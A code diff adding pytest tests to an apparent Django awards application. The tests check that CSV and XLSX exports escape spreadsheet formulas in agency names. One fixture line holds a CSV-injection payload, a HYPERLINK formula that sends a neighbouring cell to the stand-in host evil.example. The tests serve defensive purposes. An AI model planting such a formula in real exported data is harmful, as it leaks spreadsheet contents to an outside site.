@@ -12,6 +12,7 @@ from playwright.sync_api import expect
 from pypdf import PdfReader
 from pytest_django.asserts import assertContains, assertNotContains
 
+from agencies.models import Agency
 from agencies.tests.factories import DepartmentFactory, ProvinceFactory, ProvincialUnitFactory
 from awards import services
 from awards.models import AwardCategory, Candidate
@@ -317,6 +318,36 @@ def test_xlsx_export_has_the_same_rows(client, published, statistics_office, age
         "0.00",
         "0.00",
     ]
+
+
+# A link that would send the sheet's next cell to another site, and an @ formula (OWASP, "CSV
+# Injection"): a winner's names are agencies' names, which their own staff type.
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผลรางวัล")'
+AT_FORMULA = "@SUM(1+1)"
+
+
+@pytest.fixture
+def formula_names(statistics_office, build):
+    Agency.objects.filter(pk=statistics_office.pk).update(name_th=HYPERLINK, name_en=AT_FORMULA)
+    return build()
+
+
+def test_csv_export_writes_formulas_as_text(client, formula_names):
+    response = client.get(reverse("awards:export", args=[2568, "csv"]))
+
+    nso = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
+    assert (nso[4], nso[5]) == (f"'{HYPERLINK}", f"'{AT_FORMULA}")
+    assert (nso[6], nso[10]) == ("NSO", "92.50")  # the rest of the row as before
+
+
+def test_xlsx_export_writes_formulas_as_text(client, formula_names):
+    response = client.get(reverse("awards:export", args=[2568, "xlsx"]))
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    name_th, name_en, score = sheet["E2"], sheet["F2"], sheet["K2"]
+    assert (name_th.data_type, name_th.value) == ("s", f"'{HYPERLINK}")
+    assert (name_en.data_type, name_en.value) == ("s", f"'{AT_FORMULA}")
+    assert (score.data_type, score.value, score.number_format) == ("n", 92.5, "0.00")
 
 
 def test_export_in_another_format_is_404(client, published):
